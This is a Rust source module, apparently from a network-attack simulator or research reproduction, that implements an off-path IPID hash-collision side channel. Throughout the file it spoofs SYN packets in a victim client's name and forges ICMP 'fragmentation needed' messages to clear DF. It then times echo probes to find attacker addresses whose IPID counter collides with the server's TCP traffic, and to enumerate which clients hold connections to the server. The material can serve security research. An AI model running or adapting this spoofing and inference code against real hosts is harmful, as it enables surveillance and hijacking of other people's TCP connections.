//! Hash-collision side channel: find an attacker-owned address whose echo
//! traffic shares an IPID counter with the victim's TCP traffic toward the
//! client, and enumerate remote clients the same way.
//!
//! A trial watches one candidate's echo stream while a spoofed SYN makes
//! the server emit one TCP packet toward the client; if the candidate's
//! stream jumps by an extra increment exactly around the trigger, the two
//! flows share a counter. Triggers sit between two control intervals that
//! must stay clean, which screens out unrelated counter sharing.

use std::collections::VecDeque;
use std::net::Ipv4Addr;

use crate::attacker::downgrade::forge_frag_needed;
use crate::attacker::observe::ObservationStream;
use crate::attacker::{AttackConfig, AttackerIo, Pacer};
use crate::net::packet::{IcmpMessage, Packet, PacketBody, TcpFlags, TcpSegment};

/// Outcome of a pool scan.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CollisionSearch {
    pub collider: Option<Ipv4Addr>,
    /// Candidates screened; surfaced as `collision_trials` in run reports.
    pub trials: u64,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Trial {
    Positive,
    Negative,
    Ambiguous,
}

/// Spoofed SYN that makes the server send one TCP packet to the client:
/// a SYN/ACK for an unknown tuple, or a challenge ACK if the tuple happens
/// to match the live connection. Both draw from the same counter once DF
/// toward the client is cleared.
fn trigger_syn(cfg: &AttackConfig, spoof_src: Ipv4Addr) -> Packet {
    let seg = TcpSegment::new(cfg.trigger_sport, cfg.server_port, 1_000, 0, TcpFlags::SYN);
    Packet::tcp(spoof_src, cfg.server, 0, true, seg)
}

fn fresh_icmp_id(io: &AttackerIo<'_>) -> u16 {
    0x8000 | (io.packets_sent() as u16 & 0x7fff)
}

/// One isolated seven-slot trial at the inference probe rate:
/// `e0 e1 e2 T T e3 e4` (echoes from `candidate`, triggers spoofing
/// `spoofed_client`), then classify by the deltas.
fn collision_trial(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    candidate: Ipv4Addr,
    spoofed_client: Ipv4Addr,
) -> Trial {
    let icmp_id = fresh_icmp_id(io);
    let mut pace = Pacer::new(io.now(), cfg.probe_rate_pps);
    let mut vals: [Option<u16>; 5] = [None; 5];
    let collect = |io: &mut AttackerIo<'_>, vals: &mut [Option<u16>; 5]| {
        for (_, pkt) in io.poll() {
            if let PacketBody::Icmp(IcmpMessage::EchoReply { id, seqno }) = pkt.body {
                if id == icmp_id && pkt.header.dst == candidate && (seqno as usize) < 5 {
                    vals[seqno as usize] = Some(pkt.header.ipid);
                }
            }
        }
    };

    let mut echo_no: u16 = 0;
    for step in 0..7 {
        let t = pace.take();
        io.advance_to(t);
        if step == 3 || step == 4 {
            io.send(trigger_syn(cfg, spoofed_client));
        } else {
            io.send(Packet::icmp(
                candidate,
                cfg.server,
                0,
                false,
                IcmpMessage::EchoRequest { id: icmp_id, seqno: echo_no },
            ));
            echo_no += 1;
        }
        collect(io, &mut vals);
    }
    let deadline = io.now() + io.settle_ms();
    while io.now() < deadline && vals[1..].iter().any(Option::is_none) {
        io.advance(2);
        collect(io, &mut vals);
    }

    let delta = |a: usize, b: usize| -> Option<i64> {
        Some(i64::from(vals[b]?.wrapping_sub(vals[a]?)))
    };
    match (delta(1, 2), delta(2, 3), delta(3, 4)) {
        (Some(1), Some(d), Some(1)) if d >= 2 => Trial::Positive,
        (Some(1), Some(1), Some(1)) => Trial::Negative,
        _ => Trial::Ambiguous,
    }
}

/// Does `candidate`'s echo counter collide with the server→`client` TCP
/// counter? A positive is confirmed by a second trial (after the victim's
/// challenge-ACK interval, in case the trigger consumed it); ambiguity is
/// retried, then reported as false with a trace note.
pub fn detect_collision(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    candidate: Ipv4Addr,
    client: Ipv4Addr,
) -> bool {
    let mut attempts = cfg.retry_on_ambiguity + 1;
    while attempts > 0 {
        match collision_trial(io, cfg, candidate, client) {
            Trial::Negative => return false,
            Trial::Positive => {
                io.advance(cfg.challenge_ack_interval_ms + 20);
                match collision_trial(io, cfg, candidate, client) {
                    Trial::Positive => return true,
                    Trial::Negative => return false,
                    Trial::Ambiguous => {}
                }
            }
            Trial::Ambiguous => {}
        }
        attempts -= 1;
    }
    io.note(format!("collision check for {candidate} stayed ambiguous; reporting false"));
    false
}

struct Screen {
    pool_index: u32,
    addr: Ipv4Addr,
    icmp_id: u16,
    attempts: u32,
    vals: [Option<u16>; 5],
    decide_at: u64,
}

impl Screen {
    fn classify(&self) -> Trial {
        let delta = |a: usize, b: usize| -> Option<i64> {
            Some(i64::from(self.vals[b]?.wrapping_sub(self.vals[a]?)))
        };
        match (delta(1, 2), delta(2, 3), delta(3, 4)) {
            (Some(1), Some(d), Some(1)) if d >= 2 => Trial::Positive,
            (Some(1), Some(1), Some(1)) => Trial::Negative,
            _ => Trial::Ambiguous,
        }
    }
}

/// Scan the attacker pool for a colliding address. Candidates are screened
/// back to back without waiting out the round trip (results are attributed
/// by address and sequence number as replies stream in); screened positives
/// are then confirmed with [`detect_collision`] in pool order.
pub fn find_colliding_address(io: &mut AttackerIo<'_>, cfg: &AttackConfig) -> CollisionSearch {
    let deadline = io.now() + cfg.timeout(crate::attacker::Phase::Collision);
    let mut queue: VecDeque<(u32, u32)> = (0..cfg.addr_pool_size).map(|i| (i, 0)).collect();
    let mut inflight: VecDeque<Screen> = VecDeque::new();
    let mut pace = Pacer::new(io.now(), cfg.probe_rate_pps);
    let mut trials: u64 = 0;

    let harvest = |io: &mut AttackerIo<'_>, inflight: &mut VecDeque<Screen>| {
        for (_, pkt) in io.poll() {
            if let PacketBody::Icmp(IcmpMessage::EchoReply { id, seqno }) = pkt.body {
                for s in inflight.iter_mut() {
                    if s.icmp_id == id && pkt.header.dst == s.addr && (seqno as usize) < 5 {
                        s.vals[seqno as usize] = Some(pkt.header.ipid);
                        break;
                    }
                }
            }
        }
    };

    loop {
        // settle whoever is ready to be judged
        harvest(io, &mut inflight);
        while inflight.front().is_some_and(|s| io.now() >= s.decide_at) {
            let s = inflight.pop_front().unwrap();
            match s.classify() {
                Trial::Negative => {}
                Trial::Positive => {
                    if detect_collision(io, cfg, s.addr, cfg.client) {
                        return CollisionSearch { collider: Some(s.addr), trials };
                    }
                }
                Trial::Ambiguous if s.attempts < cfg.retry_on_ambiguity => {
                    queue.push_back((s.pool_index, s.attempts + 1));
                }
                Trial::Ambiguous => {
                    io.note(format!("screen for {} stayed ambiguous; skipping", s.addr));
                }
            }
        }

        if io.now() > deadline {
            io.note("collision search hit its time budget");
            return CollisionSearch { collider: None, trials };
        }

        let Some((idx, attempts)) = queue.pop_front() else {
            if inflight.is_empty() {
                return CollisionSearch { collider: None, trials };
            }
            let t = inflight.front().map_or(io.now() + 4, |s| s.decide_at).max(io.now() + 1);
            io.advance_to(t);
            continue;
        };

        // issue one candidate: e0 e1 e2 T T e3 e4 on consecutive rate slots.
        // The entry goes in before its packets so early replies are kept.
        let addr = cfg.pool_addr(idx);
        let icmp_id = fresh_icmp_id(io);
        inflight.push_back(Screen {
            pool_index: idx,
            addr,
            icmp_id,
            attempts,
            vals: [None; 5],
            decide_at: u64::MAX,
        });
        pace.realign(io.now());
        let mut echo_no: u16 = 0;
        for step in 0..7 {
            let t = pace.take();
            io.advance_to(t);
            if step == 3 || step == 4 {
                io.send(trigger_syn(cfg, cfg.client));
            } else {
                io.send(Packet::icmp(
                    addr,
                    cfg.server,
                    0,
                    false,
                    IcmpMessage::EchoRequest { id: icmp_id, seqno: echo_no },
                ));
                echo_no += 1;
            }
            harvest(io, &mut inflight);
        }
        trials += 1;
        inflight.back_mut().unwrap().decide_at = io.now() + io.settle_ms();
    }
}

/// Scan candidate *client* addresses from one attacker address: per
/// candidate, clear DF toward it, then fire a trigger SYN between two
/// echoes of the shared reference stream. A surplus in that interval marks
/// every candidate whose trigger sat there as a suspect; suspects are
/// confirmed individually. Candidates need not exist as hosts — the signal
/// is the victim's own send, not any reply.
pub fn enumerate_victim_clients(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    prefix_base: Ipv4Addr,
    prefix_count: u32,
    time_limit_ms: u64,
) -> Vec<Ipv4Addr> {
    let start = io.now();
    let primary = cfg.addr_pool_base;
    let echo_rate = (1000 / cfg.echo_interval_ms) as u32;
    let cand_rate = (cfg.probe_rate_pps.saturating_sub(echo_rate)).max(2) / 2;
    let mut stream = ObservationStream::begin(io, primary, cfg.server, 0x7001, cfg.echo_interval_ms);
    // move past the warm-up echo so every trigger lands after index >= 1
    stream.pump_until(io, io.now() + cfg.echo_interval_ms);
    let mut cand_pace = Pacer::new(io.now(), cand_rate);

    struct PendingTrigger {
        addr: Ipv4Addr,
        cut_a: u64,
        attempts: u32,
    }
    let mut pending: VecDeque<PendingTrigger> = VecDeque::new();
    let mut queue: VecDeque<(Ipv4Addr, u32)> =
        (0..prefix_count).map(|i| (Ipv4Addr::from(u32::from(prefix_base).wrapping_add(i)), 0)).collect();
    let mut suspects: Vec<Ipv4Addr> = Vec::new();

    while let Some((cand, attempts)) = queue.pop_front() {
        if io.now().saturating_sub(start) > time_limit_ms {
            queue.push_front((cand, attempts));
            break;
        }
        let t = cand_pace.take().max(io.now());
        stream.pump_until(io, t);
        io.send(forge_frag_needed(primary, cfg.server, cand));
        io.send(trigger_syn(cfg, cand));
        pending.push_back(PendingTrigger { addr: cand, cut_a: stream.last_sent(), attempts });

        // judge triggers whose bracketing replies should be home by now
        while let Some(front) = pending.front() {
            let cut_b = front.cut_a + 1;
            if stream.last_sent() < cut_b {
                break;
            }
            let ready_at = stream.sent_time(cut_b) + io.settle_ms();
            if io.now() < ready_at {
                break;
            }
            let front = pending.pop_front().unwrap();
            match stream.extra_between(front.cut_a.max(1), cut_b) {
                Some(d) if d >= 1 => suspects.push(front.addr),
                Some(_) => {}
                None if front.attempts < cfg.retry_on_ambiguity => {
                    queue.push_back((front.addr, front.attempts + 1));
                }
                None => io.note(format!("enumeration probe for {} lost; skipping", front.addr)),
            }
        }
    }
    // let the tail drain
    let tail = io.now() + io.settle_ms() + cfg.echo_interval_ms * 2;
    stream.pump_until(io, tail);
    while let Some(front) = pending.pop_front() {
        let cut_b = front.cut_a + 1;
        match stream.extra_between(front.cut_a.max(1), cut_b) {
            Some(d) if d >= 1 => suspects.push(front.addr),
            _ => {}
        }
    }
    drop(stream);

    let mut confirmed = Vec::new();
    for cand in suspects {
        io.advance(cfg.challenge_ack_interval_ms / 4);
        if detect_collision(io, cfg, primary, cand) {
            confirmed.push(cand);
        }
    }
    confirmed
}
